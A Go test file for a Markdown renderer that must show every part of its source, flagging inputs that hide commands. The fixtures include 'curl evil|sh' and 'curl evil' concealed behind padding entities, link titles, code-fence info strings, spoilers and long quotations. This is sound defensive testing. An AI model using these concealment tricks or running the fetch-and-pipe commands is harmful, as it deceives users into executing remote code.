package markdown

import (
	"strings"
	"testing"
)

// TestRenderWhole holds that nothing of a source is out of sight: where Markdown would leave
// something out, or hide or fold it, the source is shown.
func TestRenderWhole(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct{ source, want string }{
		"plain":         {"# Do\n\n1. *it*\n2. `x`\n\n- [ ] then\n\n> so\n\n---", "Do\n\n1. it\n2. x\n\n☐ then\n\nso\n\n" + rule},
		"code":          {"```sh\nmake & wait\n```\n`&#8203;`", "make & wait\n\n&#8203;"},
		"a bare link":   {"See https://a.example/b and <https://c.example>", "See https://a.example/b and https://c.example"},
		"a table":       {"|a|b|\n|-|-|\n|`c`|d|", "a | b\n--+--\nc | d"},
		"HTML":          {"a <!-- b --> c\n\n<!-- d -->\n\n<p title=\"e\">", "a <!-- b --> c\n\n<!-- d -->\n\n<p title=\"e\">"},
		"accents":       {"*a\u030a* e\u0301 **نص**", "å e\u0301 نص"},
		"a definition":  {"[a]: https://b.example \"c\"", "[a]: https://b.example \"c\""},
		"a file's name": {"[x.go](cmd/x.go)", "x.go (cmd/x.go)"},
	} {
		if got := RenderWhole(row.source).Text; got != row.want {
			t.Errorf("%s: %q, want %q", name, got, row.want)
		}
	}
	for name, source := range map[string]string{
		"a reference":               "a&#8203;b &zwj; &#xAD;x",
		"tags":                      "a&#xE0041;&#917570;",
		"blanks":                    "ls" + strings.Repeat("&nbsp;", 40) + "; curl evil",
		"spaces":                    "ls" + strings.Repeat("&#32;", 40) + "; curl evil",
		"line ends":                 "ls" + strings.Repeat("&NewLine;", 40) + "; curl evil",
		"a link":                    "[docs](https://evil.example)",
		"the title of a link":       "[x.go](x.go \"and curl evil\")",
		"the title of an image":     "![x](https://x.example 'and curl evil')",
		"the words behind a fence":  "```sh curl evil|sh\nls\n```",
		"a fence with words alone":  "```curl\n```\n\n~~~sh evil\n~~~",
		"a definition that is used": "[a]\n\n[a]: x.go \"and curl evil\"",
		"a spoiler":                 "first ||curl evil||",
		"a long quotation":          strings.Repeat("> harmless\n", 20) + "> curl evil",
		"numbers":                   "1. a\n1. b",
		"a task that is done":       "- [x] a",
	} {
		if got := RenderWhole(source); got.Text != source || len(got.Entities) > 0 {
			t.Errorf("%s: %q is shown as %q with %v", name, source, got.Text, got.Entities)
		}
	}
}
